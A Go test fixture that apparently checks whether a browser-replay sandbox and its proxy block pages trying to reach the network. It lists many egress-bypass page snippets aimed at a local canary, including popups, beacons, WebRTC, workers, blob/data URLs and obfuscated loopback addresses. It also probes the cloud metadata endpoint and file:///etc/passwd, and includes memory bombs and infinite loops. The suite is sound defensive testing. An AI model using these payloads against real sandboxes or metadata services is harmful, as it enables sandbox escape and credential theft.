package hostilepage

import "strings"

// behaviour is one way a page tries to reach the network past its replay's allowed origins.
// Page is served at /h/<name> on the allowed origin; Steps is the test replayed (by default:
// open the page, click #go when the page has one, and give it a moment to misbehave). In
// both, {{C}} is the canary's origin (http://127.0.0.1:port), {{CP}} its port, {{A}} the allowed
// origin and {{B}} the behaviour's name, which every canary URL carries.
type behaviour struct {
	name  string
	page  string
	steps string
	// alone marks a page that must be the replay's top-level document to do what it does
	// (navigate the tab, speculate, run out the replay); the others share replays, each in an
	// iframe of its own (see replays).
	alone bool
	// holds marks a page that holds its replay until the replay's limit or the browser's
	// memory watchdog ends it: these replay last, side by side in lanes mode, so that the
	// suite waits out those limits once rather than in batch after batch.
	holds bool
}

// wait is how long a replay gives a page to misbehave after its last step.
const wait = `{"kind":"wait","for":"time","ms":400}`

var behaviours = []behaviour{
	// What the per-tab gate already stopped; here so that the proxy is shown to stop it too.
	{name: "fetch", page: `<script>fetch("{{C}}/?b={{B}}", {mode: "no-cors"})</script>`},
	{name: "xhr-sync", page: `<script>try { const x = new XMLHttpRequest(); x.open("GET", "{{C}}/?b={{B}}", false); x.send() } catch (e) {}</script>`},
	{name: "img", page: `<img src="{{C}}/?b={{B}}">`},
	{name: "css-link", page: `<link rel="stylesheet" href="{{C}}/?b={{B}}">`},
	{name: "css-import", page: `<style>@import url("{{C}}/?b={{B}}");</style>`},
	{name: "font", page: `<style>@font-face { font-family: x; src: url("{{C}}/?b={{B}}"); } p { font-family: x }</style><p>text</p>`},
	{name: "css-background", page: `<div style="width:10px;height:10px;background:url('{{C}}/?b={{B}}')"></div>`},
	{name: "eventsource", page: `<script>new EventSource("{{C}}/?b={{B}}")</script>`},
	{name: "beacon", page: `<script>navigator.sendBeacon("{{C}}/?b={{B}}", "x")</script>`},
	{name: "beacon-on-pagehide", page: `<script>addEventListener("pagehide", () => navigator.sendBeacon("{{C}}/?b={{B}}", "x"))</script>`,
		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"goto","url":"/h/fetch-nothing"},` + wait + `]`},
	{name: "keepalive-fetch", page: `<script>addEventListener("pagehide", () => fetch("{{C}}/?b={{B}}", {keepalive: true, mode: "no-cors"}))</script>`,
		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"goto","url":"/h/fetch-nothing"},` + wait + `]`},
	{name: "prefetch", page: `<link rel="prefetch" href="{{C}}/?b={{B}}">`},
	{name: "preconnect", page: `<link rel="preconnect" href="{{C}}"><link rel="dns-prefetch" href="{{C}}">`},
	{name: "preload", page: `<link rel="preload" as="script" href="{{C}}/?b={{B}}">`},
	{name: "modulepreload", page: `<link rel="modulepreload" href="{{C}}/?b={{B}}">`},
	{name: "speculation-rules", alone: true, page: `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["{{C}}/?b={{B}}-prefetch"]}], "prerender": [{"source": "list", "urls": ["{{C}}/?b={{B}}-prerender"]}]}</script>`},
	{name: "iframe", page: `<iframe src="{{C}}/?b={{B}}"></iframe>`},
	{name: "iframe-srcdoc", page: `<iframe srcdoc="<img src='{{C}}/?b={{B}}'>"></iframe>`},
	{name: "media", page: `<video src="{{C}}/?b={{B}}-video"></video><audio src="{{C}}/?b={{B}}-audio" preload="auto"></audio>`},
	{name: "object-embed", page: `<object data="{{C}}/?b={{B}}-object"></object><embed src="{{C}}/?b={{B}}-embed">`},
	{name: "dedicated-worker", page: `<script>new Worker(URL.createObjectURL(new Blob(['fetch("{{C}}/?b={{B}}"); try { importScripts("{{C}}/?b={{B}}-import") } catch (e) {}'])))</script>`},
	{name: "module-import", page: `<script type="module">import("{{C}}/?b={{B}}").catch(() => {})</script>`},
	{name: "script-src", page: `<script src="{{C}}/?b={{B}}"></script>`},
	{name: "redirect", page: `<p>redirect</p>`, steps: `[{"kind":"goto","url":"/redirect?b={{B}}"},` + wait + `]`},
	{name: "redirected-img", page: `<img src="/redirect?b={{B}}">`},
	{name: "meta-refresh", alone: true, page: `<meta http-equiv="refresh" content="0;url={{C}}/?b={{B}}">`},
	{name: "location-assign", alone: true, page: `<script>setTimeout(() => location.href = "{{C}}/?b={{B}}", 50)</script>`},
	{name: "form-get", page: `<form action="{{C}}/" method="get"><input name="b" value="{{B}}"><button id="go">Go</button></form>`},
	{name: "a-ping", page: `<a id="go" href="/h/fetch-nothing" ping="{{C}}/?b={{B}}">go</a>`},
	{name: "goto-canary", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"{{C}}/?b={{B}}"},` + wait + `]`},
	{name: "goto-metadata", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"http://169.254.169.254/latest/meta-data/"},` + wait + `]`},
	{name: "goto-file", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"file:///etc/passwd"},` + wait + `]`},
	{name: "goto-javascript", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"javascript:fetch('{{C}}/?b={{B}}')"},` + wait + `]`},
	{name: "goto-chrome", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"chrome://version"},` + wait + `]`},
	{name: "userinfo", page: `<script>fetch("http://127.0.0.1:1@127.0.0.1:{{CP}}/?b={{B}}", {mode: "no-cors"}).catch(() => {})</script><a id="go" href="http://{{A}}@127.0.0.1:{{CP}}/?b={{B}}-link">go</a>`},
	{name: "backslash", page: `<script>fetch("http://127.0.0.1:{{CP}}\\@127.0.0.1/?b={{B}}", {mode: "no-cors"}).catch(() => {})</script><a id="go" href="http:\\127.0.0.1:{{CP}}/?b={{B}}-link">go</a>`},
	{name: "address-forms", page: `<script>for (const h of ["localhost", "0.0.0.0", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "[::]"]) fetch("http://" + h + ":{{CP}}/?b={{B}}-" + encodeURIComponent(h), {mode: "no-cors"}).catch(() => {})</script>`},
	{name: "metadata-forms", page: `<script>for (const h of ["169.254.169.254", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "2852039166", "metadata.google.internal"]) fetch("http://" + h + "/?b={{B}}", {mode: "no-cors"}).catch(() => {})</script>`},
	{name: "csp-report", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"/csp?b={{B}}"},` + wait + `]`},

	// What reached the canary before the proxy, and what outlived its replay.
	{name: "window-open", page: `<script>window.open("{{C}}/?b={{B}}")</script>`},
	{name: "window-open-click", page: `<button id="go" onclick="window.open('{{C}}/?b={{B}}')">go</button>`},
	{name: "target-blank", page: `<a id="go" target="_blank" href="{{C}}/?b={{B}}">go</a>`},
	{name: "target-blank-noopener", page: `<a id="go" target="_blank" rel="noopener noreferrer" href="{{C}}/?b={{B}}">go</a>`},
	{name: "form-post-blank", page: `<form action="{{C}}/?b={{B}}" method="post" target="_blank"><input name="x" value="1"><button id="go">Go</button></form>`},
	{name: "websocket", page: `<script>new WebSocket("ws://127.0.0.1:{{CP}}/?b={{B}}")</script>`},
	{name: "websocket-secure", page: `<script>new WebSocket("wss://127.0.0.1:{{CP}}/?b={{B}}")</script>`},
	{name: "shared-worker", page: `<script>new SharedWorker("/shared.js?b={{B}}")</script>`},
	{name: "shared-worker-blob", page: `<script>new SharedWorker(URL.createObjectURL(new Blob(['fetch("{{C}}/?b={{B}}"); new WebSocket("ws://127.0.0.1:{{CP}}/?b={{B}}")'])))</script>`},
	{name: "service-worker", page: `<script>navigator.serviceWorker && navigator.serviceWorker.register("/sw.js?b={{B}}").catch(() => {})</script>`},
	{name: "webrtc", page: `<script>
const pc = new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:{{CP}}?transport=tcp", username: "u", credential: "c"}, {urls: "turn:127.0.0.1:{{CP}}?transport=udp", username: "u", credential: "c"}, {urls: "stun:127.0.0.1:{{CP}}"}]});
pc.createDataChannel("x");
pc.createOffer().then(o => pc.setLocalDescription(o));
</script>`},
	{name: "data-url-popup", page: `<p>x</p>`, steps: `[{"kind":"goto","url":"data:text/html,<script>window.open('{{C}}/?b={{B}}'); fetch('{{C}}/?b={{B}}-fetch', {mode: 'no-cors'})</script>"},` + wait + `]`},
	{name: "blob-document", alone: true, page: `<script>location.href = URL.createObjectURL(new Blob(["<img src='{{C}}/?b={{B}}'><script>fetch('{{C}}/?b={{B}}-fetch', {mode: 'no-cors'}); window.open('{{C}}/?b={{B}}-open')<\/script>"], {type: "text/html"}))</script>`},
	{name: "blob-popup", page: `<script>window.open(URL.createObjectURL(new Blob(["<img src='{{C}}/?b={{B}}'>"], {type: "text/html"})))</script>`},
	{name: "about-blank-popup-write", page: `<script>const w = window.open(""); if (w) w.document.write("<img src='{{C}}/?b={{B}}'>")</script>`},
	{name: "popup-to-metadata", page: `<script>window.open("http://169.254.169.254/latest/meta-data/?b={{B}}")</script>`},
	{name: "popup-beacon", page: `<script>window.open("/popup-beacon?b={{B}}")</script>`},
	{name: "popup-outlives", page: `<script>window.open("/beat?b={{B}}")</script>`},
	{name: "popups-repeated", page: `<script>setInterval(() => window.open("/beat?b={{B}}"), 100)</script>`},
	{name: "worker-asks-window-open", page: `<script>const w = new Worker(URL.createObjectURL(new Blob(['postMessage("{{C}}/?b={{B}}")']))); w.onmessage = e => window.open(e.data)</script>`},
	{name: "delayed-popup", page: `<script>setTimeout(() => window.open("{{C}}/?b={{B}}"), 300)</script>`},

	// What would exhaust the host or hold the replay.
	{name: "infinite-loop", holds: true, page: `<p id="x">x</p><script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 0))</script>`,
		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"assertVisible","locator":"#x"},{"kind":"click","locator":"#x"}]`},
	{name: "memory-bomb", holds: true, alone: true, page: `<p id="x">x</p><script>const keep = []; (function grow() { for (let i = 0; i < 50; i++) keep.push(new Array(100000).fill(Math.random())); setTimeout(grow, 0) })()</script>`,
		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"wait","for":"time","ms":2000},{"kind":"assertVisible","locator":"#x"}]`},
	{name: "memory-bomb-buffers", holds: true, alone: true, page: `<p id="x">x</p><script>const keep = []; (function grow() { keep.push(new Uint8Array(64 << 20).fill(1)); setTimeout(grow, 0) })()</script>`,
		steps: `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"wait","for":"time","ms":2000},{"kind":"assertVisible","locator":"#x"}]`},
	{name: "fetch-nothing", page: `<p>a quiet page</p>`},
}

// together is how many pages share a replay, each in an iframe.
const together = 12

// run is one replay of the suite: one behaviour alone, or several side by side.
type run struct {
	label string
	names []string
	steps string
}

// replays groups the behaviours into the suite's replays: a page with steps of its own, a
// button to click or the need to be the top-level document runs alone; the others run
// together pages at a time, each in an iframe of /all, so the suite stays short. The pages
// that hold their replays come last.
func replays() []run {
	var out []run
	var group []string
	flush := func() {
		if len(group) > 0 {
			out = append(out, run{label: "together: " + strings.Join(group, ","), names: group,
				steps: `[{"kind":"goto","url":"/all?b=` + strings.Join(group, ",") + `"},` + wait + `]`})
			group = nil
		}
	}
	var holding []run
	for _, b := range behaviours {
		if b.steps == "" && !b.alone && !strings.Contains(b.page, `id="go"`) {
			if group = append(group, b.name); len(group) == together {
				flush()
			}
			continue
		}
		steps := b.steps
		if steps == "" {
			steps = `[{"kind":"goto","url":"/h/{{B}}"},` + wait + `]`
			if strings.Contains(b.page, `id="go"`) {
				steps = `[{"kind":"goto","url":"/h/{{B}}"},{"kind":"click","locator":"#go"},` + wait + `]`
			}
		}
		u := run{label: b.name, names: []string{b.name}, steps: steps}
		if b.holds {
			holding = append(holding, u)
			continue
		}
		out = append(out, u)
	}
	flush()
	return append(out, holding...)
}
